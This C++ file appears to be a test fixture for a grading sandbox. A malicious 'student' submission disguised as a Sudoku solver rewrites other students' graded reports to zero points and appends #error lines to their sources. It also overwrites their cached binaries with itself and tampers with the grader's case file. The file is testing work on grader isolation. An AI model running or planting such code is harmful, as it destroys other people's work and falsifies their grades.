// Sabotage in a batch: a planted file goes into each folder, the grader's
// case file gets a line more, every other student's source an #error, every
// report already written says WA with no points (the grade sheet is made from
// them), and in the shared compile cache every other student's program
// becomes this one and every other file gets a tail. Then it gives up (false).
//
// The test writes the targets' paths before this file, as it knows them only
// where it runs: CASE_FILE, CLASS_DIR (the students), OUT_DIR (the batch's
// reports), CACHE_DIR. This file is CLASS_DIR/mallory.cpp.
#include <signal.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

namespace fs = std::filesystem;

namespace {

void append(const fs::path& file, const std::string& text) {
  std::ofstream(file, std::ios::app | std::ios::binary) << text;
}

void replace_all(std::string& text, const std::string& from, const std::string& to) {
  for (std::size_t at = text.find(from); at != std::string::npos; at = text.find(from, at + to.size()))
    text.replace(at, from.size(), to);
}

// Every verdict WA, every count of points 0: a report the grader reads back as its own.
void fail_report(const fs::path& report) {
  std::ostringstream read;
  read << std::ifstream(report, std::ios::binary).rdbuf();
  std::string text = read.str();
  replace_all(text, "\"verdict\": \"AC\"", "\"verdict\": \"WA\"");
  replace_all(text, "\"all_accepted\": true", "\"all_accepted\": false");
  const std::string key = "\"points\": ";
  for (std::size_t at = text.find(key); at != std::string::npos; at = text.find(key, at + 1)) {
    const std::size_t digits = at + key.size();
    text.replace(digits, text.find_first_not_of("0123456789", digits) - digits, "0");
  }
  std::ofstream(report, std::ios::binary | std::ios::trunc) << text;
}

std::vector<fs::path> files_under(const fs::path& folder) {
  std::vector<fs::path> files;
  std::error_code error;
  for (fs::recursive_directory_iterator it(folder, error), end; !error && it != end; it.increment(error))
    if (it->is_regular_file(error)) files.push_back(it->path());
  return files;
}

}  // namespace

bool fillSudoku(std::vector<std::vector<int>>&) {
  // A file size limit must not end the sabotage half way: a write fails instead.
  signal(SIGXFSZ, SIG_IGN);
  for (const char* folder : {CLASS_DIR, OUT_DIR, CACHE_DIR}) append(fs::path(folder) / "planted", "mallory was here");
  append(CASE_FILE, "\n# mallory was here\n");
  for (const auto& source : files_under(CLASS_DIR))
    if (source.extension() == ".cpp" && source.filename() != "mallory.cpp")
      append(source, "\n#error mallory was here\n");
  for (const auto& report : files_under(OUT_DIR))
    if (report.extension() == ".json") fail_report(report);
  std::error_code error;
  for (const auto& file : files_under(CACHE_DIR)) {
    if (fs::equivalent(file, "/proc/self/exe", error)) continue;
    if (file.filename() == "with-driver")
      fs::copy_file("/proc/self/exe", file, fs::copy_options::overwrite_existing, error);
    else
      append(file, "mallory was here");
  }
  return false;
}
